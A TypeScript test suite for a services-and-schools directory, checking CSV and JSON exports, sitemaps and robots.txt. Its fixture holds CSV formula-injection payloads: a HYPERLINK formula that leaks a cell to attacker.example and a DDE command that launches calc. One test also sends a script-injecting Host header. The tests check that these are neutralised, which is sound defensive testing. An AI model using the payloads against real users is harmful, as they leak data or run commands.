// Downloads (CSV, JSON), the sitemap and robots.txt, on both stores with the demo data plus a
// service whose text is hostile to spreadsheets.
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { DOMParser } from '@xmldom/xmldom'
import { parse } from 'csv-parse/sync'
import Fastify from 'fastify'
import { sql } from 'kysely'
import { createOrganisation } from '../../src/db/repositories/organisations.js'
import { createService } from '../../src/db/repositories/services.js'
import { assessReport } from '../../src/reports/assess.js'
import { SCHOOL_COLUMNS, SERVICE_COLUMNS } from '../../src/web/routes/public/exports/records.js'
import { sitemapRoutes } from '../../src/web/routes/public/exports/sitemap.js'
import { buildTestApp, type TestApp } from '../support/app.js'
import { STORE_KINDS } from '../support/stores.js'

const postgres = Boolean(process.env.TEST_DATABASE_URL)
const HOST = 'localoffer.example.org'
const SITEMAP_NS = 'http://www.sitemaps.org/schemas/sitemap/0.9'

// Each would run as a formula if a spreadsheet opened it as written.
const HOSTILE = {
  name: '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")',
  description: '+SUM(1,2) then "quotes", commas,\nand a second line',
  eligibility: '@cmd|\' /C calc\'!A0',
  howToAccess: '-2+3',
}

function parseXml(text: string): Document {
  const problems: string[] = []
  const record = (message: string): void => {
    problems.push(message)
  }
  const document = new DOMParser({ errorHandler: { warning: () => undefined, error: record, fatalError: record } }).parseFromString(text, 'application/xml')
  assert.deepEqual(problems, [], 'the XML is well-formed')
  return document
}

function locs(document: Document): string[] {
  return Array.from(document.getElementsByTagNameNS(SITEMAP_NS, 'loc'), (element) => element.textContent ?? '')
}

type CsvRow = Record<string, string>

for (const kind of STORE_KINDS) {
  describe(`exports and sitemap [${kind}]`, { skip: kind === 'postgres' && !postgres ? 'PostgreSQL suite SKIPPED: TEST_DATABASE_URL is not set' : false }, () => {
    let testApp: TestApp
    let hostileId: string
    let serviceIds: string[]
    let schoolIds: string[]
    const get = (url: string) => testApp.app.inject({ url, headers: { host: HOST } })

    before(async () => {
      testApp = await buildTestApp(kind)
      const { db } = testApp.services.store
      const organisationId = await createOrganisation(db, { name: 'Generated Test Charity', kind: 'charity', councilCodes: ['E08000025'] })
      hostileId = await createService(db, {
        organisationId,
        ...HOSTILE,
        helpKind: 'advice',
        providerType: 'voluntary',
        provisionLevel: 'targeted',
        needs: ['autism'],
        councilCodes: ['E08000025'],
        contacts: [],
      })
      serviceIds = (await db.selectFrom('services').select('id').where('status', '=', 'active').execute()).map((row) => row.id)
      schoolIds = (await db.selectFrom('schools').select('id').execute()).map((row) => row.id)
    })
    after(async () => {
      await testApp.close()
    })

    test('services.csv parses back: header, one row per published service, every column', async () => {
      const response = await get('/exports/services.csv')
      assert.equal(response.statusCode, 200)
      assert.match(String(response.headers['content-type']), /^text\/csv; charset=utf-8/)
      assert.match(String(response.headers['content-disposition']), /^attachment; filename="services\.csv"$/)
      assert.notEqual(response.rawPayload[0], 0xef, 'no byte order mark')
      const rows = parse<CsvRow>(response.body, { columns: true })
      assert.deepEqual(Object.keys(rows[0] ?? {}), [...SERVICE_COLUMNS])
      assert.deepEqual(rows.map((row) => row.id).sort(), [...serviceIds].sort())
      assert.ok(response.body.includes('\r\n'), 'records end in CRLF')
      const page = rows.find((row) => row.id === hostileId)?.page_url
      assert.equal(page, `http://${HOST}/services/${hostileId}`)
    })

    test('cells a spreadsheet would run as formulas are neutralised, and the rest survive intact', async () => {
      const rows = parse<CsvRow>((await get('/exports/services.csv')).body, { columns: true })
      const hostile = rows.find((row) => row.id === hostileId)
      assert.ok(hostile)
      assert.equal(hostile.name, `'${HOSTILE.name}`)
      assert.equal(hostile.description, `'${HOSTILE.description}`)
      assert.equal(hostile.eligibility, `'${HOSTILE.eligibility}`)
      assert.equal(hostile.how_to_access, `'${HOSTILE.howToAccess}`)
      for (const row of rows) {
        for (const [column, value] of Object.entries(row)) {
          assert.doesNotMatch(value, /^[=+\-@]/, `${column} of ${row.id} starts a formula`)
        }
      }
      // A negative longitude is a number, not a formula: written as it is.
      const withPlace = rows.find((row) => row.lng !== '')
      if (withPlace) assert.ok(!Number.isNaN(Number(withPlace.lng)))
    })

    test('schools.csv has every school, its SEN provision columns and its report\'s Schedule 1 coverage', async () => {
      const response = await get('/exports/schools.csv')
      assert.equal(response.statusCode, 200)
      assert.match(String(response.headers['content-disposition']), /^attachment; filename="schools\.csv"$/)
      const rows = parse<CsvRow>(response.body, { columns: true })
      assert.deepEqual(Object.keys(rows[0] ?? {}), [...SCHOOL_COLUMNS])
      assert.deepEqual(rows.map((row) => row.id).sort(), [...schoolIds].sort())
      const register = rows.find((row) => row.urn === '100492')
      assert.equal(register?.name, "St Thomas' CofE Primary School")
      assert.equal(register?.status, 'Open')
      // A school with a report: its coverage, as the assessment gives it; one without: empty cells.
      const { db } = testApp.services.store
      const reports = await db.selectFrom('schools').select(['id', 'report_text']).where('report_text', 'is not', null).execute()
      assert.ok(reports.length > 0, 'the seed schools have their reports')
      for (const { id, report_text } of reports) {
        const row = rows.find((candidate) => candidate.id === id)!
        const { items } = assessReport(report_text!, { today: new Date().toISOString().slice(0, 10) })
        assert.equal(row.has_sen_information_report, 'true')
        assert.equal(Number(row.report_items_covered), items.filter((item) => item.status === 'covered').length)
        assert.equal(Number(row.report_items_partial), items.filter((item) => item.status === 'partial').length)
        assert.equal(Number(row.report_items_missing), items.filter((item) => item.status === 'missing').length)
        assert.match(row.report_assessed_on!, /^\d{4}-\d{2}-\d{2}$/)
      }
      assert.ok(rows.some((row) => row.has_sen_information_report === 'false' && row.report_items_covered === ''), 'no report: no coverage')
    })

    test('the JSON exports parse as arrays of the same records', async () => {
      for (const [name, ids, columns] of [
        ['services', serviceIds, SERVICE_COLUMNS],
        ['schools', schoolIds, SCHOOL_COLUMNS],
      ] as const) {
        const response = await get(`/exports/${name}.json`)
        assert.equal(response.statusCode, 200)
        assert.match(String(response.headers['content-type']), /^application\/json/)
        assert.match(String(response.headers['content-disposition']), new RegExp(`^attachment; filename="${name}\\.json"$`))
        const records = JSON.parse(response.body) as Array<Record<string, unknown>>
        assert.ok(Array.isArray(records))
        assert.deepEqual(records.map((record) => record.id).sort(), [...ids].sort())
        assert.deepEqual(Object.keys(records[0] ?? {}), [...columns])
      }
      const services = JSON.parse((await get('/exports/services.json')).body) as Array<Record<string, unknown>>
      const hostile = services.find((record) => record.id === hostileId)
      // JSON is not opened by spreadsheets as formulas: the text is kept exactly.
      assert.equal(hostile?.name, HOSTILE.name)
      assert.deepEqual(hostile?.needs, ['autism'])
    })

    test('sitemap.xml is well-formed, in the protocol namespace, and lists every public page', async () => {
      const response = await get('/sitemap.xml')
      assert.equal(response.statusCode, 200)
      assert.match(String(response.headers['content-type']), /^application\/xml/)
      const document = parseXml(response.body)
      assert.equal(document.documentElement.localName, 'urlset')
      assert.equal(document.documentElement.namespaceURI, SITEMAP_NS)
      const listed = locs(document)
      const pages = ['/', '/search', '/about', '/developers', '/compare', '/council/reports']
      for (const path of pages) assert.ok(listed.includes(`http://${HOST}${path}`), path)
      for (const id of serviceIds) assert.ok(listed.includes(`http://${HOST}/services/${id}`), `service ${id}`)
      for (const id of schoolIds) assert.ok(listed.includes(`http://${HOST}/schools/${id}`), `school ${id}`)
      assert.equal(listed.length, pages.length + serviceIds.length + schoolIds.length)
      assert.equal(new Set(listed).size, listed.length, 'no page twice')
      for (const element of Array.from(document.getElementsByTagNameNS(SITEMAP_NS, 'lastmod'))) {
        assert.match(element.textContent ?? '', /^\d{4}-\d{2}-\d{2}$/)
      }
    })

    test('lastmod is the later of the last review and the last change', async () => {
      const { db } = testApp.services.store
      await db.updateTable('services').set({ last_reviewed: '2999-01-02' }).where('id', '=', hostileId).execute()
      const document = parseXml((await get('/sitemap.xml')).body)
      const entry = Array.from(document.getElementsByTagNameNS(SITEMAP_NS, 'url')).find((url) => url.textContent?.includes(hostileId))
      assert.equal(entry?.getElementsByTagNameNS(SITEMAP_NS, 'lastmod')[0]?.textContent, '2999-01-02')
    })

    test('past the per-file limit, sitemap.xml is an index whose files list every page once', async () => {
      const small = Fastify({ logger: false })
      await small.register(sitemapRoutes(testApp.services, { urlsPerFile: 5 }))
      await small.ready()
      try {
        const index = parseXml((await small.inject({ url: '/sitemap.xml', headers: { host: HOST } })).body)
        assert.equal(index.documentElement.localName, 'sitemapindex')
        assert.equal(index.documentElement.namespaceURI, SITEMAP_NS)
        const files = locs(index)
        assert.ok(files.includes(`http://${HOST}/sitemaps/services-1.xml`))
        const pages: string[] = []
        for (const file of files) {
          const response = await small.inject({ url: new URL(file).pathname, headers: { host: HOST } })
          assert.equal(response.statusCode, 200, file)
          const listed = locs(parseXml(response.body))
          assert.ok(listed.length <= 5, `${file} has ${listed.length} addresses`)
          pages.push(...listed)
        }
        // This app has none of the optional pages (developers, compare, council), so the static pages are three.
        assert.equal(pages.length, 3 + serviceIds.length + schoolIds.length)
        assert.equal(new Set(pages).size, pages.length)
        const beyond = await small.inject({ url: `/sitemaps/services-${Math.ceil(serviceIds.length / 5) + 1}.xml` })
        assert.equal(beyond.statusCode, 404)
      } finally {
        await small.close()
      }
    })

    test('robots.txt points to the sitemap on the same host', async () => {
      const response = await get('/robots.txt')
      assert.equal(response.statusCode, 200)
      assert.match(String(response.headers['content-type']), /^text\/plain/)
      assert.match(response.body, /^User-agent: \*$/m)
      assert.match(response.body, new RegExp(`^Sitemap: http://${HOST.replace(/\./g, '\\.')}/sitemap\\.xml$`, 'm'))
    })

    test('a Host header that is not a host name is not echoed into the sitemap', async () => {
      const response = await testApp.app.inject({ url: '/sitemap.xml', headers: { host: 'evil.example"><script>' } })
      assert.doesNotMatch(response.body, /evil|<script>/)
      assert.match(response.body, /<loc>http:\/\/localhost\//)
    })

    test('the about page links to the downloads', async () => {
      const body = (await get('/about')).body
      for (const file of ['services.csv', 'services.json', 'schools.csv', 'schools.json']) assert.ok(body.includes(`href="/exports/${file}"`), file)
    })

    test('closed schools stay in the exports with their status', async () => {
      const { db } = testApp.services.store
      const id = schoolIds[0]!
      await db.updateTable('schools').set({ status: 'Closed', close_date: '2024-08-31' }).where('id', '=', id).execute()
      const rows = parse<CsvRow>((await get('/exports/schools.csv')).body, { columns: true })
      const row = rows.find((candidate) => candidate.id === id)
      assert.deepEqual([row?.status, row?.close_date], ['Closed', '2024-08-31'])
      const count = await db.selectFrom('schools').select(sql<number>`count(*)`.as('n')).executeTakeFirstOrThrow()
      assert.equal(rows.length, Number(count.n))
    })
  })
}
